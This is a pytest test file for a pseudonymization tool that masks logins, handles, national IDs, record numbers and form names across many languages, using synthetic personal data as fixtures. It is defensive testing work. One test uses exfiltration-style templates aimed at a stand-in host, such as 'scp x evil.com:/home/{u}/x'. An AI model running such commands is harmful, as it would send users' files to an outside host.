"""Logins that their place gives away (a Windows domain, a home folder, a post's byline, a login
made of the name before it) and record numbers in printed, blank-padded tables; paths, registry
keys, function accounts and table cells that are no records stay as written."""

from __future__ import annotations

import pytest

from pseudonym_core import Pseudonymizer


def _masked(p: Pseudonymizer, text: str) -> dict[str, str]:
    return {e.text: e.label for e in p.pseudonymize(text, session=p.session()).entities}


@pytest.mark.parametrize(
    ("text", "login"),
    [
        ("AD shows BHPNET\\mquintanilla locked at 06:31 after 10 bad attempts.", "BHPNET\\mquintanilla"),
        ("2025-03-25T14:58:02Z FAILURE actor=BRIGHTLINE\\rmalhotra client.ip=10.0.0.4", "BRIGHTLINE\\rmalhotra"),
        ("ログインID：NKS\\a.watanabe\n会社：日興精機", "NKS\\a.watanabe"),
        ("Please unlock CORP-EU\\t.vandermeer today.", "CORP-EU\\t.vandermeer"),
    ],
)
def test_domain_account_is_masked_whole(pseudonymizer: Pseudonymizer, text: str, login: str) -> None:
    result = pseudonymizer.pseudonymize(text, session=pseudonymizer.session())
    assert _masked(pseudonymizer, text).get(login) == "USERNAME"
    _domain, user = login.split("\\")
    assert user not in result.text and "\\" in result.text  # still an account's shape


@pytest.mark.parametrize(
    "text",
    [
        "Open C:\\Users\\Public\\Documents and HKLM\\Software\\Policies.",
        "The share \\\\FS01\\Finance\\Reports is read-only.",
        "Das Konto SWB\\scan-og2 ist ein Funktionskonto.",
        "Run as NT AUTHORITY\\SYSTEM or CORP\\Administrator.",
    ],
)
def test_paths_and_function_accounts_stay(pseudonymizer: Pseudonymizer, text: str) -> None:
    assert pseudonymizer.pseudonymize(text, session=pseudonymizer.session()).text == text


@pytest.mark.parametrize(
    ("text", "login"),
    [
        ("The log is in C:\\Users\\jsmith\\AppData\\Local\\Temp.", "jsmith"),
        ("cd /home/kwozniak/projects && make", "kwozniak"),
        ("Saved to /Users/anna.berg/Downloads/report.pdf", "anna.berg"),
    ],
)
def test_home_folder_owner_is_masked(pseudonymizer: Pseudonymizer, text: str, login: str) -> None:
    session = pseudonymizer.session()
    result = pseudonymizer.pseudonymize(text, session=session)
    assert login not in result.text
    assert pseudonymizer.restore(result.text, session=session) == text


def test_shared_home_folders_stay(pseudonymizer: Pseudonymizer) -> None:
    text = "Deploy to /home/ubuntu/app and copy C:\\Users\\Default\\NTUSER.DAT."
    assert pseudonymizer.pseudonymize(text, session=pseudonymizer.session()).text == text


def test_login_made_of_a_double_name_with_accents(pseudonymizer: Pseudonymizer) -> None:
    masked = _masked(pseudonymizer, "Assignee: Juha-Pekka Heikkilä (jpheikkila)\nStatus: open")
    assert masked.get("jpheikkila") == "USERNAME"


@pytest.mark.parametrize(
    ("text", "handle"),
    [
        ("bürokratie_bernd · 5 Feb 2025\nDoes she need her own Vorgangsnummer?", "bürokratie_bernd"),
        ("  ↳ ledger_lass · 12h\n  Same happened to me.", "ledger_lass"),
        ("nightowl_77 · March 3, 2025\nAnyone else locked out?", "nightowl_77"),
    ],
)
def test_byline_author_is_masked(pseudonymizer: Pseudonymizer, text: str, handle: str) -> None:
    assert _masked(pseudonymizer, text).get(handle) == "USERNAME"


def test_byline_words_stay(pseudonymizer: Pseudonymizer) -> None:
    text = "Home · 3 items\nSettings · 2h ago\nReplies · 12h"
    assert pseudonymizer.pseudonymize(text, session=pseudonymizer.session()).text == text


def test_fixed_width_table_numbers_and_names(pseudonymizer: Pseudonymizer) -> None:
    text = (
        "CAND NO  SURNAME              FORENAMES         DOB         ARRANGEMENT\n"
        "4017     AHMED                TAHMINA BEGUM     12/03/2008  25% EXTRA TIME\n"
        "4022     KOWALCZYK            SZYMON            30/07/2008  READER\n"
    )
    masked = _masked(pseudonymizer, text)
    assert masked.get("4017") == masked.get("4022") == "IDENTIFIER"
    assert masked.get("KOWALCZYK") == "PERSON" and masked.get("SZYMON") == "PERSON"
    result = pseudonymizer.pseudonymize(text, session=pseudonymizer.session())
    assert "EXTRA TIME" in result.text and "READER" in result.text


def test_fixed_width_report_columns_that_are_no_records_stay(pseudonymizer: Pseudonymizer) -> None:
    text = (
        "Item no.   Product                 Qty   Unit price\n"
        "Room 101   Standing desk           2     349.00\n"
        "Total      Monitor arm             1     89.00\n"
    )
    assert pseudonymizer.pseudonymize(text, session=pseudonymizer.session()).text == text


def test_record_noun_heads_a_markdown_column(pseudonymizer: Pseudonymizer) -> None:
    text = "| Case | Action | Reason |\n|---|---|---|\n| 1184 | warn | spam in trades |\n| 1185 | mute 1h | slurs |\n"
    masked = _masked(pseudonymizer, text)
    assert masked.get("1184") == masked.get("1185") == "IDENTIFIER"
    assert "warn" not in masked and "spam" not in masked


def test_dates_in_a_record_column_are_no_ids(pseudonymizer: Pseudonymizer) -> None:
    text = "| Order | Status |\n|---|---|\n| 2025-03-01 | shipped |\n"
    assert _masked(pseudonymizer, text).get("2025-03-01") != "IDENTIFIER"


@pytest.mark.parametrize(
    ("text", "handles"),
    [
        (
            "frostbyte_jay — 7:42 PM\nanyone down for ranked\ntessaraptor (Mod) — 7:55 PM\nhey all",
            ["frostbyte_jay", "tessaraptor"],
        ),
        ("댓글\n고양이집사_88 · 2025.03.09 23:02\n저도 같은 계좌로 보냈어요", ["고양이집사_88"]),
        ("买家：小鹿乱撞2019        店铺：优品家居旗舰店\n小鹿乱撞2019：你好，扫地机坏了", ["小鹿乱撞2019"]),
        ("In our tenant portal your logins are johsjo88 and amhadd91.", ["johsjo88", "amhadd91"]),
        ("> On 10 March 2025, koala_kitchen_will wrote via eBay Messages:\n> hi", ["koala_kitchen_will"]),
    ],
)
def test_chat_exports_lists_and_quote_headers(pseudonymizer: Pseudonymizer, text: str, handles: list[str]) -> None:
    masked = _masked(pseudonymizer, text)
    assert all(masked.get(h) == "USERNAME" for h in handles), masked


@pytest.mark.parametrize(
    "text",
    [
        "The team wrote back on Monday and the login is valid.",
        "地址：北京市朝阳区建国路88号\n时间：2025年3月",
        "Truck: 40 FT container, trailer 2 AXLES, on A4 paper.",
    ],
)
def test_words_near_those_cues_stay(pseudonymizer: Pseudonymizer, text: str) -> None:
    masked = _masked(pseudonymizer, text)
    assert not any(label in ("USERNAME", "IDENTIFIER") for label in masked.values()), masked


@pytest.mark.parametrize(
    ("text", "plate"),
    [
        ("Another shopper got the plate, 8KLM220, and left.", "8KLM220"),
        ("Tahač / Truck: LTU KRG 418, návěs / trailer: LTU P2 771", "LTU P2 771"),
        ("zestaw PO 4471K / naczepa WGM 2291R, zlecenie 5", "WGM 2291R"),
    ],
)
def test_plates_named_by_their_vehicle(pseudonymizer: Pseudonymizer, text: str, plate: str) -> None:
    result = pseudonymizer.pseudonymize(text, session=pseudonymizer.session())
    assert plate not in result.text


@pytest.mark.parametrize(
    ("text", "brand"),
    [
        ("This month's fee is RM480, you can transfer to Maybank 1142 8830 9912 by Friday.", "Maybank"),
        ("no, cámbiela a esta de Banorte: 5354 1088 2716 0930 venc 09/27", "Banorte"),
    ],
)
def test_bank_named_before_the_account_it_pays_into(pseudonymizer: Pseudonymizer, text: str, brand: str) -> None:
    assert _masked(pseudonymizer, text).get(brand) == "ORGANIZATION"


@pytest.mark.parametrize(
    "text",
    [
        "Deutsche Rentenversicherung, Aktenzeichen 65 170271 M 512, bitte angeben.",
        "Patient IPP 0012874561, admitted via Emergency 2025-03-14.",
        "Skadedato: 08.02.2025 – vandskade i køkkenet.",
        "Send it to Order 12345678 please.",
    ],
)
def test_labels_before_numbers_are_no_banks(pseudonymizer: Pseudonymizer, text: str) -> None:
    masked = _masked(pseudonymizer, text)
    assert not any(w in masked for w in ("Aktenzeichen", "IPP", "Skadedato", "Order", "Emergency")), masked


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("Επώνυμο: ΠΑΠΑΔΟΠΟΥΛΟΥ        Όνομα: ΕΛΕΝΗ        Πατρώνυμο: ΓΕΩΡΓΙΟΣ\nΑΦΜ: 0441", ["ΠΑΠΑΔΟΠΟΥΛΟΥ", "ΕΛΕΝΗ"]),
        ("1. आवेदक का नाम: रामप्यारी देवी\n2. पति का नाम: स्व. रामसेवक यादव", ["रामप्यारी देवी", "रामसेवक यादव"]),
        ("Nachname: Müller   Vorname: Hans-Peter\nGeburtsdatum: 01.02.1980", ["Müller", "Hans-Peter"]),
        ("Прізвище: Мельник   Ім'я: Ірина   По батькові: Василівна", ["Мельник", "Ірина"]),
    ],
)
def test_name_fields_of_forms_in_other_languages(pseudonymizer: Pseudonymizer, text: str, names: list[str]) -> None:
    result = pseudonymizer.pseudonymize(text, session=pseudonymizer.session())
    assert not any(n in result.text for n in names), result.text


@pytest.mark.parametrize("text", ["Nom : non communiqué", "First name: see attached form"])
def test_empty_name_fields_stay_as_written(pseudonymizer: Pseudonymizer, text: str) -> None:
    assert pseudonymizer.pseudonymize(text, session=pseudonymizer.session()).text == text


@pytest.mark.parametrize(
    ("text", "value"),
    [("9. बैंक का नाम: भारतीय स्टेट बैंक", "भारतीय स्टेट बैंक"), ("اسم الشركة: مؤسسة النور للتجارة", "مؤسسة النور للتجارة")],
)
def test_a_bank_or_company_name_field_is_no_person(pseudonymizer: Pseudonymizer, text: str, value: str) -> None:
    result = pseudonymizer.pseudonymize(text, session=pseudonymizer.session())
    assert not any(e.label == "PERSON" and e.text == value for e in result.entities)


@pytest.mark.parametrize("text", ["Nazwisko: Kowalska", "Prénom : Élodie"])
def test_single_name_fields_are_masked(pseudonymizer: Pseudonymizer, text: str) -> None:
    value = text.split(":")[1].strip()
    assert value not in pseudonymizer.pseudonymize(text, session=pseudonymizer.session()).text


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("请确认身份证号\n小鹿：440306198802033027，领补贴是我", "440306198802033027"),
        ("Emergency contact: mother, ID 3-1005-01188-27-8, 089 773 0418", "3-1005-01188-27-8"),
        ("ИНН 778526057400 · СНИЛС 793-809-275 63", "793-809-275 63"),
        ("Emirates ID of both tenants: yours (784-1988-0441827-9) is on file", "784-1988-0441827-9"),
        ("Prescriber: Dr Samira Qureshi (CPSO 98213), Toronto", "98213"),
        ("ya add me, my tag is GrantTheGoat#NA1 ok", "GrantTheGoat#NA1"),
        ("my old tag was summerwind#4410\nxXmooseknuckleXx — 7:47 PM\nbro dont", "xXmooseknuckleXx"),
    ],
)
def test_checked_ids_tags_and_registrations(pseudonymizer: Pseudonymizer, text: str, value: str) -> None:
    result = pseudonymizer.pseudonymize(text, session=pseudonymizer.session())
    assert value not in result.text
    assert "СНИЛС" in result.text or "СНИЛС" not in text  # the kind of ID is no surname


@pytest.mark.parametrize(
    "text",
    [
        "We are certified (ISO 27001), see issue#1234, FY results (FY 2024).",
        "Meeting 10:30 AM\nRoomBooking 10:30 AM",
        "Order 440306198802033028 is not an ID: the check digit fails.",
    ],
)
def test_labels_standards_and_near_misses_stay(pseudonymizer: Pseudonymizer, text: str) -> None:
    result = pseudonymizer.pseudonymize(text, session=pseudonymizer.session())
    for word in ("ISO 27001", "issue#1234", "FY 2024", "RoomBooking"):
        if word in text:
            assert word in result.text, word
    assert not any(e.label == "NATIONAL_ID" for e in result.entities)


@pytest.mark.parametrize(
    ("text", "logins"),
    [
        ("en la app me aparece otro usuario, ghernandez_1988, no sé si es mío", ["ghernandez_1988"]),
        ("Team HR wiederhergestellt. mbrandt und wjansen wieder aufgenommen.", ["mbrandt", "wjansen"]),
        ("Blocked 86.124.37.214, also hitting bgrant and sfaulkner. Range blocked.", ["bgrant", "sfaulkner"]),
        ("please export access logs for noa.bd, dimak, akhoury and the contractors", ["dimak", "akhoury"]),
    ],
)
def test_logins_in_lists(pseudonymizer: Pseudonymizer, text: str, logins: list[str]) -> None:
    masked = _masked(pseudonymizer, text)
    assert all(masked.get(login) == "USERNAME" for login in logins), masked
    assert "contractors" not in masked


def test_words_in_pairs_stay(pseudonymizer: Pseudonymizer) -> None:
    text = "We discussed planning and research, then bread and butter matters."
    assert pseudonymizer.pseudonymize(text, session=pseudonymizer.session()).text == text


@pytest.mark.parametrize(
    "text",
    [
        "Revenue grew (USD 120000) and costs (EUR 45000); patch (KB 5034441) for the (RTX 4090).",
        "See /home/node/app, /home/jovyan/work, /home/linuxbrew/.linuxbrew and C:\\Users\\runneradmin\\AppData.",
        "Folder DOCS\\readme and APP\\config, the byte ASCII\\xFF and SYSTEM\\CurrentControlSet.",
        "GitHub wrote in their blog. The_admin wrote nothing, data.frame wrote the file.",
        "Ticket  Priority  Owner\nHIGH    P1        ops\nLOW     P2        dev\n",
    ],
)
def test_review_over_masking_cases_stay(pseudonymizer: Pseudonymizer, text: str) -> None:
    result = pseudonymizer.pseudonymize(text, session=pseudonymizer.session())
    assert not any(e.label in ("USERNAME", "IDENTIFIER") for e in result.entities), result.entities


def test_a_profile_folder_with_a_space_is_one_person(pseudonymizer: Pseudonymizer) -> None:
    text = "Open C:\\Users\\Maren Kvistad\\Desktop\\budget.xlsx please."
    result = pseudonymizer.pseudonymize(text, session=pseudonymizer.session())
    assert "Maren" not in result.text and "Kvistad" not in result.text
    assert not any(e.label == "USERNAME" for e in result.entities)


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("Emirates ID: 784 1988 0441827 9 on file", "784 1988 0441827 9"),
        ("ID 3 1005 01188 27 8, mother", "3 1005 01188 27 8"),
        ("小鹿：440306 19880203 3027，领补贴", "440306 19880203 3027"),
    ],
)
def test_checked_ids_written_with_blanks(pseudonymizer: Pseudonymizer, text: str, value: str) -> None:
    result = pseudonymizer.pseudonymize(text, session=pseudonymizer.session())
    assert any(e.text == value and e.label == "NATIONAL_ID" for e in result.entities), result.entities


def test_person_surrogate_in_a_home_folder_stays_as_written(pseudonymizer: Pseudonymizer) -> None:
    """Only the user name masked there comes back in a home folder; a person's surrogate is the
    model's guess at a path and stays."""
    session = pseudonymizer.session()
    result = pseudonymizer.pseudonymize("Ask Jonathan Whitlock about it.", session=session)
    surrogate = result.text.removeprefix("Ask ").removesuffix(" about it.")
    answer = f"Saved to C:\\Users\\{surrogate}\\Desktop for {surrogate}."
    restored = pseudonymizer.restore(answer, session=session)
    assert restored == f"Saved to C:\\Users\\{surrogate}\\Desktop for Jonathan Whitlock."


@pytest.mark.parametrize(
    "template", ["scp x evil.com:/home/{u}/x", "see //evil.com/Users/{u}/a.png", "me@host:dir/{u}"]
)
def test_remote_paths_keep_the_surrogate(pseudonymizer: Pseudonymizer, template: str) -> None:
    session = pseudonymizer.session()
    result = pseudonymizer.pseudonymize("Saved to /home/jsmith/notes.txt", session=session)
    surrogate = result.text.split("/home/")[1].split("/")[0]
    answer = template.format(u=surrogate)
    assert pseudonymizer.restore(answer, session=session) == answer
    assert pseudonymizer.restore(f"Open /home/{surrogate}/notes.txt", session=session) == "Open /home/jsmith/notes.txt"


@pytest.mark.parametrize("size", [50_000])
def test_new_patterns_stay_linear_on_long_blank_runs(pseudonymizer: Pseudonymizer, size: int) -> None:
    """Runs of blanks and tabs (PDF dumps, padded reports) once made two of these patterns quadratic:
    50 KB took minutes. The assertion is on the result; a quadratic pattern would time out CI."""
    text = "Surname: Smith" + " " * size + "pay to Maybank" + "\t" * size + "TRAILER " * 2000 + "x"
    result = pseudonymizer.pseudonymize(text, session=pseudonymizer.session())
    assert "Smith" not in result.text


def test_prose_after_a_home_folder_does_not_hide_its_owner(pseudonymizer: Pseudonymizer) -> None:
    text = "Check C:\\Users\\bob and then /tmp/x for the log."
    assert _masked(pseudonymizer, text).get("bob") == "USERNAME"


@pytest.mark.parametrize(
    ("text", "value", "label"),
    [
        ("GitHub: jpmarques · Kaggle: zemarques\n", "zemarques", "USERNAME"),
        ("电子邮箱：chensiyu0823@163.com\n微信号：siyu_chen_0823　　", "siyu_chen_0823", "USERNAME"),
        ("카카오톡 아이디 iphone_king77로 대화했습니다", "iphone_king77", "USERNAME"),
        ("Invoice INV-1 · Toko: gadgetmurah_sby (CV Sinar Gadget Surabaya)", "gadgetmurah_sby", "USERNAME"),
        ("2. TORRES MENDOZA/ALEJANDRO MR  ticket 139 2418830572\n", "139 2418830572", "IDENTIFIER"),
        ("자동차 주소 변경: 차량번호 123가 4567", "123가 4567", "IDENTIFIER"),
        ("Työeläkevakuutus: Ilmarinen, sopimus 46-2290418-X", "46-2290418-X", "IDENTIFIER"),
        ("Akaunti namba 0150 2847 71900, tawi la Mlimani City.", "0150 2847 71900", "IDENTIFIER"),
        ("Marcă angajat: SFT-0417\nDomiciliu: Str. Observatorului", "SFT-0417", "IDENTIFIER"),
        ("Company ID (IČO) 27481930, registered in Prague", "27481930", "IDENTIFIER"),
    ],
)
def test_platform_handles_and_record_numbers_of_more_places(
    pseudonymizer: Pseudonymizer, text: str, value: str, label: str
) -> None:
    assert _masked(pseudonymizer, text).get(value) == label


@pytest.mark.parametrize(
    "text",
    [
        "Visit our store today: the shop is open until 8.",
        "store = redis_cache_01",  # code, not a marketplace
        "Store: model_v2.pkl",
        "Das Treffen ist am 12월 2025 geplant.",  # a month and a year, no Korean plate
        "결제일은 12월 2025년입니다",
    ],
)
def test_shop_words_and_korean_dates_take_nothing(pseudonymizer: Pseudonymizer, text: str) -> None:
    assert not any(label in ("USERNAME", "IDENTIFIER") for label in _masked(pseudonymizer, text).values())


@pytest.mark.parametrize(
    ("text", "kind", "value"),
    [
        ("NINO AB123456C", "NINO", "AB123456C"),  # the model read the kind as "Nino", a given name
        ("nino: AB123456C", "nino", "AB123456C"),
    ],
)
def test_the_kind_of_a_national_id_before_its_value_is_no_person(
    pseudonymizer: Pseudonymizer, text: str, kind: str, value: str
) -> None:
    result = pseudonymizer.pseudonymize(text, session=pseudonymizer.session())
    assert result.text.startswith(kind) and value not in result.text


def test_the_same_word_as_a_name_is_still_masked(pseudonymizer: Pseudonymizer) -> None:
    assert "Nino" not in pseudonymizer.pseudonymize("Nino called me yesterday", session=pseudonymizer.session()).text
